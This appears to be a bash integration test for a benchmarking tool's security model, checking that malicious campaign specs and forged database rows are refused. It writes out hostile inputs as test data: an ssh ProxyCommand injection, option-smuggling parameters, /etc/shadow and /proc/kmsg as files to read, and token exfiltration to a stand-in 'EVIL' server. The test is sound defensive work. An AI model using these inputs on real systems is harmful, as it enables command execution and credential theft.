#!/usr/bin/env bash
# it_authority: who may make lg do what (docs/security.md, "A spec author" and "A database
# writer"). Each attack runs against a real controller, agent and PostgreSQL, and must fail:
#  1. A spec names no program: the old argv form with ssh's ProxyCommand is refused, as are
#     parameters that would be options; a probe of the operator's file runs with the spec's
#     value in the operator's place, once per config edge.
#  2. A spec names no secret and no file: token_file is refused; a credential goes only to its
#     own origin (a spec pointing it elsewhere is refused at submit, warned at plan --check, and
#     the token never reaches the other server); /proc/kmsg as a token file is never read; an
#     operator's file another user could change is refused.
#  3. The database is no command channel: a login in lg_import can add finished campaigns and
#     nothing else (lgctl import works; pending campaigns, runs of others' campaigns, updates are
#     refused); a login in lg_writer that re-queues a finished campaign with another probe and a
#     token sent to its own URL gets its runs refused (the rows lack the controller's seal): the
#     probe never runs, the token never leaves.
#  4. One controller per campaign: a second controller and local mode on the same database take
#     neither another's campaign nor its runs.
#  5. Local mode refuses a spec that names a probe when another user could have written it.
. "$(dirname "$0")/lib.sh"
pg_start
lg_keys a1
"$LG_BIN/lgctl" db migrate >/dev/null

# ---- two HTTP servers on loopback: the NAS's exporter and an attacker's, each logging what
# Authorization header it was sent ----
cat >"$T/exporter.py" <<'PY'
import http.server, sys
log = open(sys.argv[2], "a")
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        log.write("%s %s\n" % (self.path, self.headers.get("Authorization", "-")))
        log.flush()
        body = b"# TYPE node_load1 gauge\nnode_load1 0.5\n"
        self.send_response(200)
        self.send_header("Content-Type", "text/plain; version=0.0.4")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
PY
NAS_PORT=$(free_port 2)
EVIL_PORT=$((NAS_PORT + 1))
: >"$T/nas.req"
: >"$T/evil.req"
python3 "$T/exporter.py" "$NAS_PORT" "$T/nas.req" 2>"$T/nas-http.log" &
CLEANUP_PIDS+=($!)
python3 "$T/exporter.py" "$EVIL_PORT" "$T/evil.req" 2>"$T/evil-http.log" &
CLEANUP_PIDS+=($!)
for _ in $(seq 1 100); do
    curl -s "http://127.0.0.1:$NAS_PORT/up" >/dev/null && curl -s "http://127.0.0.1:$EVIL_PORT/up" \
        >/dev/null && break
    sleep 0.1
done
NAS="http://127.0.0.1:$NAS_PORT"
EVIL="http://127.0.0.1:$EVIL_PORT"

# ---- the operator's file: one probe, two credentials ----
TOKEN="tok-$$-$RANDOM-secret"
printf '%s\n' "$TOKEN" >"$T/nas.token"
chmod 600 "$T/nas.token"
cat >"$T/probe.sh" <<SH
#!/bin/sh
echo "\$*" >>"$T/probe.args"
env | grep -c '^LG_CAMPAIGN=' >>"$T/probe.env"
echo "logical_bytes=200 physical_bytes=100"
SH
chmod 755 "$T/probe.sh"
printf '#!/bin/sh\necho run >>"%s/bad.count"\nprintf "logical_bytes=\\377 \\303\\n"\n' "$T" >"$T/bad.sh"
chmod 755 "$T/bad.sh"
# a dataset nothing was written to yet: the probe before finds no files (as compsize says)
printf '#!/bin/sh
if [ ! -e "%s/empty.seen" ]; then : >"%s/empty.seen"; echo "No files." >&2; exit 1; fi
echo "logical_bytes=300 physical_bytes=100"
' "$T" "$T" >"$T/empty.sh"
chmod 755 "$T/empty.sh"
cat >"$T/operator.yaml" <<OP
probes:
  - {name: mark, argv: ["$T/probe.sh", --dataset, "{dataset}"], params: {dataset: path}}
  - {name: bad, argv: ["$T/bad.sh"]}
  - {name: empty, argv: ["$T/empty.sh"]}
credentials:
  - {name: nas, origin: "$NAS", token_file: "$T/nas.token"}
  - {name: kmsg, origin: "$NAS", token_file: /proc/kmsg}
OP
chmod 600 "$T/operator.yaml"
start_controller --operator "$T/operator.yaml"
start_agent a1
C=(--controller "ipc://$T/ctl.sock")
OPF=(--operator "$T/operator.yaml")

# spec NAME EXTRA...: $T/NAME.yaml, a 1 s null-target campaign; EXTRA lines go into its config
spec() {
    local name=$1
    shift
    {
        echo "name: $name"
        echo "configs:"
        echo "  - labels: {build: b1}"
        echo '    target: "null"'
        for l in "$@"; do echo "    $l"; done
        echo "profiles: [{name: r, bs: 4k, pattern: random, read: 100, sweep: [1T1Q]}]"
        echo "runtime: 1s"
        echo "precondition: none"
    } >"$T/$name.yaml"
}
# refused NAME WHAT PATTERN: lgctl plan and submit of $T/NAME.yaml both fail with PATTERN
refused() {
    if "$LG_BIN/lgctl" plan "$T/$1.yaml" >"$T/$1.plan" 2>&1; then
        fail "$2: plan accepted it"
    fi
    if "$LG_BIN/lgctl" "${C[@]}" submit "$T/$1.yaml" >"$T/$1.submit" 2>&1; then
        fail "$2: submit accepted it"
    fi
    grep -q -- "$3" "$T/$1.plan" || fail "$2: plan said $(cat "$T/$1.plan")"
    grep -q -- "$3" "$T/$1.submit" || fail "$2: submit said $(cat "$T/$1.submit")"
    echo "ok: $2 is refused: $(grep -m1 -- "$3" "$T/$1.submit" | cut -c1-160)"
}
# refused_at_submit NAME WHAT PATTERN: plan passes (it does not know the operator), submit fails
refused_at_submit() {
    "$LG_BIN/lgctl" plan "$T/$1.yaml" >"$T/$1.plan" 2>&1 || fail "$2: plan: $(cat "$T/$1.plan")"
    if "$LG_BIN/lgctl" "${C[@]}" submit "$T/$1.yaml" >"$T/$1.submit" 2>&1; then
        fail "$2: submit accepted it"
    fi
    grep -q -- "$3" "$T/$1.submit" || fail "$2: submit said $(cat "$T/$1.submit")"
    echo "ok: $2 is refused at submit: $(grep -m1 -- "$3" "$T/$1.submit" | cut -c1-160)"
}

# ---- 1. a spec names no program ----
spec proxy "reduction: [/usr/bin/ssh, -o, \"ProxyCommand=sh -c 'id > $T/pwned'\", nas, true]"
refused proxy "an argv with ssh's ProxyCommand" "a spec names no program"
spec dash "reduction: {probe: mark, dataset: \"-oProxyCommand=id\"}"
refused dash "a parameter that starts with -" "must be a plain name or path"
spec eq "reduction: {probe: mark, dataset: \"x=y\"}"
refused eq "a parameter with =" "must be a plain name or path"
spec dots "reduction: {probe: mark, dataset: \"tank/../etc\"}"
refused dots "a parameter with a .. part" "must be a plain name or path"
spec noprobe "reduction: {probe: ssh, dataset: tank}"
refused_at_submit noprobe "a probe the operator did not define" 'no probe "ssh"'
spec extra "reduction: {probe: mark, dataset: tank, host: evil}"
refused_at_submit extra "a parameter the probe does not declare" 'takes no parameter "host"'
[ ! -e "$T/pwned" ] || fail "the ProxyCommand ran"
[ ! -e "$T/probe.args" ] || fail "a refused spec ran the probe: $(cat "$T/probe.args")"

# ---- 2. a spec names no secret and no file ----
spec tokfile "telemetry: [{name: t, url: \"$NAS/metrics\", token_file: $T/nas.token}]"
refused tokfile "a spec's token_file" "a spec names no file the controller reads"
spec cafile "telemetry: [{name: t, url: \"$NAS/metrics\", ca_file: /etc/shadow}]"
refused cafile "a spec's ca_file" "a spec names no file the controller reads"
spec exfil "telemetry: [{name: t, url: \"$EVIL/metrics\", credential: nas}]"
refused_at_submit exfil "a credential sent to another origin" "is for $NAS only"
"$LG_BIN/lgctl" plan --check "${OPF[@]}" "$T/exfil.yaml" >"$T/exfil.check" 2>&1 &&
    fail "plan --check passed a credential for another origin"
grep -q "is for $NAS only" "$T/exfil.check" || fail "plan --check: $(cat "$T/exfil.check")"
spec kmsg "telemetry: [{name: k, url: \"$NAS/metrics\", credential: kmsg}]"
t0=$(date +%s)
timeout 30 "$LG_BIN/lgctl" plan --check "${OPF[@]}" "$T/kmsg.yaml" >"$T/kmsg.check" 2>&1 &&
    fail "plan --check read /proc/kmsg as a token"
[ $(($(date +%s) - t0)) -lt 20 ] || fail "plan --check waited on /proc/kmsg"
grep -q '"/proc/kmsg": not a regular file' "$T/kmsg.check" || fail "kmsg: $(cat "$T/kmsg.check")"
echo "ok: /proc/kmsg is not read as a token: $(grep -m1 kmsg "$T/kmsg.check" | cut -c1-140)"
cp "$T/operator.yaml" "$T/operator-open.yaml"
chmod 666 "$T/operator-open.yaml"
"$LG_BIN/lgctl" plan --check --operator "$T/operator-open.yaml" "$T/kmsg.yaml" \
    >"$T/open.check" 2>&1 && fail "an operator's file others may write was used"
grep -q "could be changed by another user" "$T/open.check" || fail "open: $(cat "$T/open.check")"
"$LG_BIN/lg-controller" --operator "$T/operator-open.yaml" --database "$LG_DATABASE_URL" \
    --plaintext --agents "ipc://$T/x.sock" --control "ipc://$T/y.sock" >"$T/open-ctl.log" 2>&1 &&
    fail "lg-controller started with an operator's file others may write"
grep -q "could be changed by another user" "$T/open-ctl.log" || fail "$(cat "$T/open-ctl.log")"
echo "ok: an operator's file others may write is refused by lgctl and lg-controller"
grep -q "$TOKEN" "$T/evil.req" && fail "the token reached the other origin"

# the real thing: the operator's probe and credential as a spec names them
spec good "reduction: {probe: mark, dataset: tank/lz4}" \
    "telemetry: [{name: nas, url: \"$NAS/metrics\", credential: nas}]"
submit_file good
wait_campaign good
expect_eq "campaign good" "$(q "SELECT state FROM lg.campaign WHERE name = 'good'")" done
expect_eq "the probe's arguments, once per config edge" "$(cat "$T/probe.args")" \
    "--dataset tank/lz4
--dataset tank/lz4"
expect_eq "reduction rows of good" "$(q "SELECT count(*) FROM lg.reduction x JOIN lg.campaign c
    USING (campaign_id) WHERE c.name = 'good' AND x.logical_bytes = 200 AND x.error IS NULL")" 2
grep -q "Bearer $TOKEN" "$T/nas.req" || fail "the NAS was not sent its token: $(cat "$T/nas.req")"
grep -q "$TOKEN" "$T/evil.req" && fail "the token reached the other origin"
[ "$(q "SELECT count(*) FROM lg.campaign WHERE spec LIKE '%$TOKEN%'")" = 0 ] || fail "token stored"
[ "$(q "SELECT count(*) FROM lg.run WHERE telemetry::text LIKE '%nas.token%'")" = 0 ] ||
    fail "the token's file is in the database"
echo "ok: the operator's probe ran with the spec's value in its place; the token went to its origin"

# a probe that prints bytes that are not UTF-8: run once per config edge, its failure stored and
# said in the report (before, its row could not be stored and it ran ten times a second)
spec badprobe "reduction: {probe: bad}"
submit_file badprobe
wait_campaign badprobe
expect_eq "campaign badprobe" "$(q "SELECT state FROM lg.campaign WHERE name = 'badprobe'")" done
expect_eq "runs of the failing probe" "$(wc -l <"$T/bad.count")" 2
"$LG_BIN/lgctl" report --campaign badprobe >"$T/badprobe.txt" 2>&1 || fail "report badprobe"
grep -q "warning: config 1: its reduction probe failed: .*printed no reduction figures" \
    "$T/badprobe.txt" || fail "the report does not warn of the failed probe: $(cat "$T/badprobe.txt")"
expect_eq "its output stored, invalid bytes replaced" "$(q "SELECT count(*) FROM lg.reduction x
    JOIN lg.campaign c USING (campaign_id) WHERE c.name = 'badprobe'
    AND x.output LIKE '%logical_bytes=' || chr(65533) || '%'")" 2
echo "ok: a probe printing invalid UTF-8 ran once per edge; $(grep -m1 'probe failed' "$T/badprobe.txt")"

# the probe before a config's first run on an empty dataset: "nothing written yet" beside the
# ratio the after probe read, not a failed probe (issue 42 part 6)
spec emptyds "reduction: {probe: empty}"
submit_file emptyds
wait_campaign emptyds
expect_eq "campaign emptyds" "$(q "SELECT state FROM lg.campaign WHERE name = 'emptyds'")" done
"$LG_BIN/lgctl" report --campaign emptyds >"$T/emptyds.txt" 2>&1 || fail "report emptyds"
grep -qE "^1 .* 3\.00 .*before its first run: nothing written yet \(the probe: .*No files\." \
    "$T/emptyds.txt" || fail "the report does not say nothing was written yet: $(cat "$T/emptyds.txt")"
grep -q "probe failed" "$T/emptyds.txt" && fail "an empty dataset before is called a failed probe"
echo "ok: $(grep -m1 'nothing written yet' "$T/emptyds.txt" | tr -s ' ')"

# ---- 3. the database is no command channel ----
q "CREATE ROLE imp LOGIN IN ROLE lg_import; CREATE ROLE wri LOGIN IN ROLE lg_writer"
GOOD=$(q "SELECT campaign_id FROM lg.campaign WHERE name = 'good'")
asrole() { psql -qAt -v ON_ERROR_STOP=1 -U "$1" -c "$2" 2>&1; }
out=$(asrole imp "UPDATE lg.run SET state = 'pending' WHERE campaign_id = $GOOD") &&
    fail "lg_import re-queued a run: $out"
echo "ok: lg_import cannot update a run: $out"
out=$(asrole imp "UPDATE lg.campaign SET state = 'pending' WHERE campaign_id = $GOOD") &&
    fail "lg_import re-queued a campaign: $out"
out=$(asrole imp "INSERT INTO lg.campaign (name, spec, state) VALUES ('evil', 'x', 'pending')") &&
    fail "lg_import added a pending campaign: $out"
echo "ok: lg_import cannot add a pending campaign: $out"
out=$(asrole imp "INSERT INTO lg.campaign (name, spec, state, owner) VALUES ('evil', 'x', 'done',
    (SELECT owner FROM lg.campaign WHERE campaign_id = $GOOD))") &&
    fail "lg_import added a campaign in a controller's name: $out"
out=$(asrole imp "INSERT INTO lg.run (campaign_id, ordinal, sut_config_id, profile, direction, rw,
    bs, read_pct, threads, qd, ramp_s, runtime_s, target_kind, target, size_bytes, state)
    SELECT $GOOD, 99, sut_config_id, 'r', 'read', 'randread', 4096, 100, 1, 1, 0, 1, 'null', '',
    0, 'pending' FROM lg.sut_config LIMIT 1") && fail "lg_import added a run to a campaign: $out"
echo "ok: lg_import cannot add runs to a controller's campaign: $out"
cat >"$T/fio.job" <<'JOB'
[r]
ioengine=null
size=16M
rw=randread
bs=4k
time_based=1
lat_percentiles=1
runtime=1
JOB
fio --output-format=json+ "$T/fio.job" >"$T/fio.json" 2>"$T/fio.err" || fail "fio: $(cat "$T/fio.err")"
LG_DATABASE_URL="host=$PG_DIR port=5432 user=imp dbname=lg" "$LG_BIN/lgctl" import fio-json \
    "$T/fio.json" --name imported >"$T/import.log" 2>&1 ||
    fail "import as lg_import: $(tail -n 3 "$T/import.log")"
expect_eq "the campaign lg_import imported" \
    "$(q "SELECT state || ' ' || (owner IS NULL) FROM lg.campaign WHERE name = 'imported'")" "done true"
echo "ok: lg_import imports"

# the issue's attack as a login in lg_writer: the finished campaign re-queued with another probe
# value and its token sent to the attacker
: >"$T/probe.args"
asrole wri "UPDATE lg.run SET state = 'pending', reduction =
    '{\"probe\": \"mark\", \"params\": {\"dataset\": \"pwned\"}}', telemetry =
    '[{\"name\": \"x\", \"url\": \"$EVIL/metrics\", \"interval_ms\": 1000, \"timeout_ms\": 800,
       \"metrics\": [], \"credential\": \"nas\"}]' WHERE campaign_id = $GOOD;
    DELETE FROM lg.reduction WHERE campaign_id = $GOOD;
    UPDATE lg.campaign SET state = 'pending' WHERE campaign_id = $GOOD" >/dev/null ||
    fail "lg_writer could not write the rows"
wait_campaign good
q "SELECT run_id, state, left(error, 90) FROM lg.run WHERE campaign_id = $GOOD" | sed 's/^/  /'
expect_eq "the re-queued campaign's runs refused" \
    "$(q "SELECT count(*) FROM lg.run WHERE campaign_id = $GOOD AND state = 'failed'
          AND error LIKE 'refused: this run''s row was not written by the controller%'")" \
    "$(q "SELECT count(*) FROM lg.run WHERE campaign_id = $GOOD")"
[ ! -s "$T/probe.args" ] || fail "the probe ran for a forged row: $(cat "$T/probe.args")"
sleep 1
grep -q "$TOKEN" "$T/evil.req" && fail "the token reached the attacker"
echo "ok: a forged row makes the controller run nothing and send nothing"

# ---- 4. one controller per campaign ----
"$LG_BIN/lgctl" keygen ctl2 --dir "$T/keys" >/dev/null
mkdir -p "$T/agents2"
start_controller --log "$T/ctl2.log" --key "$T/keys/ctl2.key" --agent-keys "$T/agents2" \
    --control-keys "$T/keys/ops.pub" --agents "ipc://$T/agents2.sock" --control "ipc://$T/ctl2.sock"
CTL2=$CTL
spec queued
"$LG_BIN/lgctl" --controller "ipc://$T/ctl2.sock" --controller-key "$T/keys/ctl2.pub" submit \
    "$T/queued.yaml" >"$T/queued.submit" 2>&1 || fail "submit to ctl2: $(cat "$T/queued.submit")"
spec mine
submit_file mine
wait_campaign mine
expect_eq "campaign mine (the first controller's)" \
    "$(q "SELECT state FROM lg.campaign WHERE name = 'mine'")" done
mkdir -p "$T/local"
spec localrun
"$LG_BIN/lgctl" run "$T/localrun.yaml" --data-dir "$T/local" --quiet >"$T/local.out" 2>&1 ||
    fail "local mode on the shared database: $(cat "$T/local.out")"
expect_eq "campaign queued (ctl2's, which has no agent)" \
    "$(q "SELECT c.state || ' ' || count(ra.*) FROM lg.campaign c JOIN lg.run r USING (campaign_id)
          LEFT JOIN lg.run_agent ra USING (run_id) WHERE c.name = 'queued' GROUP BY c.state")" \
    "pending 0"
expect_eq "agents of the local campaign's runs" \
    "$(q "SELECT string_agg(DISTINCT a.name, ',') FROM lg.run_agent ra JOIN lg.agent a
          USING (agent_id) JOIN lg.run r USING (run_id) JOIN lg.campaign c USING (campaign_id)
          WHERE c.name = 'localrun'")" local
expect_eq "owners of the four campaigns" \
    "$(q "SELECT count(DISTINCT owner) FROM lg.campaign WHERE name IN ('good', 'mine', 'queued',
          'localrun')")" 3
grep -q 'campaign [0-9]* "queued"' "$T/controller.log" && fail "the first controller took queued"
echo "ok: neither the other controller nor local mode took a campaign not theirs"
kill "$CTL2"

# ---- 5. local mode: a spec another user could have written names no probe ----
mkdir -m 777 "$T/shared"
cp "$T/good.yaml" "$T/shared/good.yaml"
"$LG_BIN/lgctl" run "$T/shared/good.yaml" --data-dir "$T/local" "${OPF[@]}" >"$T/shared.out" 2>&1 &&
    fail "local mode ran a probe from a spec in a folder others may write"
grep -q "refused: .*in a folder another user could change" "$T/shared.out" ||
    fail "shared: $(cat "$T/shared.out")"
cp "$T/good.yaml" "$T/nobody.yaml"
chown nobody "$T/nobody.yaml"
"$LG_BIN/lgctl" run "$T/nobody.yaml" --data-dir "$T/local" "${OPF[@]}" >"$T/nobody.out" 2>&1 &&
    fail "local mode ran a probe from another user's spec"
grep -q "refused: .*could be changed by another user" "$T/nobody.out" ||
    fail "nobody: $(cat "$T/nobody.out")"
[ ! -s "$T/probe.args" ] || fail "a foreign spec ran the probe: $(cat "$T/probe.args")"
echo "ok: local mode refuses a foreign spec that names a probe"
echo PASS
